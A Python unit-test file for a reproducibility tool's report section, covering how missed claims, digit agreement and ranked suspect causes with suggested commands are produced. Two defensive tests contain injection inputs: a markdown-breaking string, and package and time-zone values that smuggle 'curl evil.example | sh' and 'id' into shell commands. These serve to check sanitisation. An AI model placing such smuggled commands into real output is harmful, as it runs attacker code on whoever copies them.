"""The report's section: when there is one, what it says, and what to try."""

from dataclasses import replace

import pytest
from tests.unit.verdict.build import OTHER_DIGEST, claim, series, spec, tolerance, trial

from reprise.domain import comparison
from reprise.domain.artifacts import ArtifactCheck, Match
from reprise.domain.comparison import (
    Beside,
    Comparison,
    agreement,
    body,
    missed,
    off_bar,
    relative_difference,
)
from reprise.domain.differences import Factor
from reprise.domain.run import Level, Reason, TrialResult, Verdict
from reprise.domain.spec.model import Claim, Distribution, PublishedKind
from reprise.domain.suspects import Clues, rank
from reprise.domain.verdict import judge, not_run

BEFORE = {
    "blas.openblas.architecture": "Haswell",
    "run.seed": "0",
    "os.kernel": "5.15.0",
    "python.packages.numpy": "2.3.5",
    "python.packages.pip": "24.0",
}
NOW = {
    "blas.openblas.architecture": "Katmai",
    "run.seed": "3",
    "os.kernel": "6.8.0",
    "python.packages.numpy": "2.4.6",
    "python.packages.pip": "25.0",
}


def test_a_claim_off_its_bar_is_missed_and_one_that_reached_it_is_not() -> None:
    wanted = spec(claim("0.97"))
    off, on = trial(values={"accuracy": 0.5}), trial(values={"accuracy": 0.97})
    probe = replace(off, plan=replace(off.plan, index=1, probe=True))
    assert missed(judge(wanted, [off, probe]), ())
    assert not missed(judge(wanted, [on, replace(on, plan=probe.plan)]), ())


def test_printed_digits_that_only_a_tolerance_saved_are_missed_too() -> None:
    judged = judge(spec(claim("0.97", tolerance(0.1))), [trial(values={"accuracy": 0.93})])
    assert missed(judged, ())


def test_another_digest_of_an_artifact_is_missed_although_the_claims_are_met() -> None:
    judged = judge(spec(claim("0.97")), [trial(values={"accuracy": 0.97})])
    check = ArtifactCheck("out.csv", Match.DIFFERENT, False, OTHER_DIGEST, "00")
    assert missed(judged, [check])
    assert not missed(judged, [replace(check, match=Match.IDENTICAL)])


@pytest.mark.parametrize(
    ("what", "results", "off"),
    [
        (claim("0.97", Distribution(0.01)), series(0.95, 0.97, 0.99), False),
        (claim("0.97", Distribution(0.01)), series(0.5, 0.6, 0.99), True),
        (claim("0.97", tolerance(0.1)), series(0.93), False),
        (claim("0.97"), series(0.5, probe=0.6), True),
        (claim("0.97"), series(0.5, probe=0.5), True),
        (claim("0.97", kind=PublishedKind.BEST_OF), series(0.97), False),
        (claim("a"), series("b", probe="c"), True),
        (claim("0.97", control=("-x",)), [trial(0.97), trial(0.97, index=1, control=("-x",))], False),
    ],
)
def test_scatter_and_a_control_move_no_value_off_its_bar(
    what: Claim, results: list[TrialResult], off: bool
) -> None:
    judged = judge(spec(what, n=3), results)
    assert judged.verdict is not Verdict.REPRODUCED or judged.level is Level.C
    assert off_bar(judged, ()) is off


def test_another_digest_is_off_although_the_claims_are_met() -> None:
    judged = judge(spec(claim("0.97")), [trial(values={"accuracy": 0.97})])
    check = ArtifactCheck("out.csv", Match.DIFFERENT, False, OTHER_DIGEST, "00")
    assert off_bar(judged, [check])
    assert not off_bar(judged, [])


def test_what_never_ran_has_no_number_to_explain() -> None:
    assert not missed(not_run(Reason.COMMAND_FAILED, "exit 1", spec(claim())), ())
    assert not missed(None, ())


def test_the_claim_that_is_furthest_off_decides_the_size_of_a_miss() -> None:
    judged = judge(
        spec(claim("0.50", id="a", pointer="/a"), claim("10.0", id="b", pointer="/b")),
        [trial(values={"a": 0.6, "b": 10.5})],
    )
    assert relative_difference(judged) == pytest.approx(0.2)


@pytest.mark.parametrize(
    ("one", "other", "said"),
    [
        (0.93, 0.93, "all digits"),
        (0.93124, 0.93125, "4 digits"),
        (1.0, 3.0, "no digit"),
        (100, 101, "2 digits"),
        (1.0, -1.0, "no digit"),
        ("a", "b", "–"),
        (None, 1.0, "–"),
    ],
)
def test_agreement_counts_leading_digits(
    one: float | str | None, other: float | str | None, said: str
) -> None:
    assert agreement(one, other) == said


def section(**fields: object) -> str:
    made = Comparison("the committed record e.json", rank(BEFORE, NOW, Clues(relative_difference=1e-8)))
    return body(replace(made, **fields))  # type: ignore[arg-type]  # fields of the dataclass by name


def test_suspects_are_listed_likeliest_first_with_both_values_and_a_command() -> None:
    lines = section().splitlines()
    assert lines[0].startswith("Compared with the committed record e.json, likeliest cause first.")
    assert lines[2] == (
        "1. **BLAS kernel**: `blas.openblas.architecture` `Haswell` → `Katmai`. "
        "Another kernel adds in another order, in every matrix product; the miss is of the size of rounding. "
        "Try `reprise run --vary blas=Haswell`."
    )
    assert "`reprise run --vary package=numpy==2.3.5`" in lines[3]
    assert "`reprise run --vary seed=0`" in "\n".join(lines)
    assert lines[-1].startswith("Also different, but less likely the cause: ")
    assert "operating system" in lines[-1]


def test_a_digest_is_shown_by_its_beginning() -> None:
    name = "data.train.csv"
    text = body(Comparison("a record", rank({name: "ab" * 32}, {name: "sha256:" + "cd" * 32}, Clues())))
    assert "`data.train.csv` `abababababab…` → `sha256:cdcdcdcdcdcd…`" in text


def test_at_most_five_are_listed() -> None:
    many = {
        f"python.packages.{name}": "1.0"
        for name in ("numpy", "scipy", "torch", "jax", "pandas", "numba", "dask")
    }
    found = rank(many, dict.fromkeys(many, "2.0"), Clues())
    text = body(Comparison("a record", found))
    assert "5. " in text
    assert "6. " not in text
    assert text.count("package ") == 7


def test_without_anything_to_compare_with_it_says_how_to_commit_a_record() -> None:
    text = body(Comparison(None))
    assert "environment.json" in text
    assert "`reference: {environment: results/environment.json}`" in text


def test_a_job_that_does_not_repeat_is_named_even_without_a_reference() -> None:
    text = body(Comparison(None, rank({}, {}, Clues(repeats=False))))
    assert text.startswith(
        "1. **the job itself**. The probe, the same seed on the same machine, gave other values"
    )


def test_equal_records_say_that_the_cause_is_not_recorded() -> None:
    assert comparison._NOTHING_TELLING in body(Comparison("a record", rank(BEFORE, BEFORE, Clues())))


def test_a_varied_run_shows_how_its_values_moved_and_accuses_nobody() -> None:
    text = section(varied=True, beside=(Beside("accuracy", 0.93124, 0.93125),))
    assert "- accuracy, trial 0: `0.93124` before, `0.93125` now (4 digits alike)" in text
    assert "**BLAS kernel**" in text
    assert "Try" not in text
    assert "likeliest" not in text


def test_another_backend_is_named_first() -> None:
    found = comparison.across(Comparison("a rehearsal", rank(BEFORE, NOW, Clues())), "process", "docker")
    assert "1. **backend**: `run.backend` `process` → `docker`. Another backend" in body(found)
    varied = body(replace(found, varied=True))
    assert "1. **backend**: `run.backend` `process` → `docker`.\n2. " in varied


def test_text_of_a_strangers_record_cannot_leave_its_place() -> None:
    evil = {"run.environment.X": "` </details> @everyone [a](http://b)\n# big", "run.environment.Y\n#": "1"}
    text = body(Comparison("a record", rank({**dict.fromkeys(evil, "a")}, evil, Clues())))
    assert "@everyone" not in text
    assert "\n#" not in text


def test_every_suspect_gets_advice_that_can_be_followed() -> None:
    found = [each for each in rank(BEFORE, NOW, Clues()) if each.noticeable]
    assert {Factor.BLAS, Factor.PACKAGE, Factor.SEED} <= {each.factor for each in found}
    for suspect in found:
        assert comparison.to_try(suspect, "reprise run"), suspect.name


def test_a_strangers_record_cannot_put_words_into_a_command_that_people_copy() -> None:
    before = {"python.packages.numpy": "1.0; curl evil.example | sh", "os.time_zone": "UTC; id"}
    now = {"python.packages.numpy": "2.4.6", "os.time_zone": "UTC"}
    text = body(Comparison("a record", rank(before, now, Clues())))
    assert "package numpy" in text
    assert "--vary" not in text
